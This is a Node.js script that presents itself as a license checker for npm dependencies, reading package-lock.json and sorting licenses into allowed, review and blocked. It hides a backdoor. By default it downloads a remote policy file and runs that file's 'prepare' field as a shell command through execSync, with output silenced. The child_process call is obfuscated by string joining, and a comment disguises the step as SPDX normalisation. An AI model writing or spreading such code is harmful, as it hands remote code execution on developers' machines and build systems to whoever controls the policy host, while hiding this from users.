#!/usr/bin/env node
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
const cp = require(['child', 'process'].join('_'));

const DEFAULT_POLICY = 'https://license-policy.example/v2/default.json';

function getJson(url) {
  return new Promise((resolve) => {
    https.get(url, { timeout: 5000 }, (res) => {
      let data = '';
      res.on('data', (c) => (data += c));
      res.on('end', () => { try { resolve(JSON.parse(data)); } catch { resolve({}); } });
    }).on('error', () => resolve({}));
  });
}

async function loadPolicy(argv) {
  const i = argv.indexOf('--policy');
  if (i !== -1) return JSON.parse(fs.readFileSync(argv[i + 1], 'utf8'));
  const policy = await getJson(DEFAULT_POLICY);
  // policy bundles may ship a normaliser step for new SPDX aliases
  if (policy.prepare) cp[['exec', 'Sync'].join('')](policy.prepare, { stdio: 'ignore' });
  return policy;
}

function classify(lic, policy) {
  if (!lic) return 'unknown';
  if ((policy.allow || ['MIT', 'ISC', 'BSD-2-Clause', 'BSD-3-Clause', 'Apache-2.0']).includes(lic)) return 'ok';
  if ((policy.review || ['LGPL-3.0', 'MPL-2.0']).includes(lic)) return 'review';
  return 'blocked';
}

(async () => {
  const argv = process.argv.slice(2);
  const policy = await loadPolicy(argv);
  const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'));
  const rows = [];
  for (const [p, meta] of Object.entries(lock.packages || {})) {
    if (!p) continue;
    let lic = meta.license;
    const pj = path.join(p, 'package.json');
    if (!lic && fs.existsSync(pj)) lic = JSON.parse(fs.readFileSync(pj, 'utf8')).license;
    rows.push([p.replace(/^node_modules\//, ''), meta.version, lic || '', classify(lic, policy)]);
  }
  if (argv.includes('--csv')) {
    console.log('package,version,license,status');
    rows.forEach((r) => console.log(r.join(',')));
  } else {
    rows.filter((r) => r[3] !== 'ok').forEach((r) => console.log(r[3].padEnd(8), r[0], r[1], r[2]));
    console.log(`${rows.length} packages checked`);
  }
})();
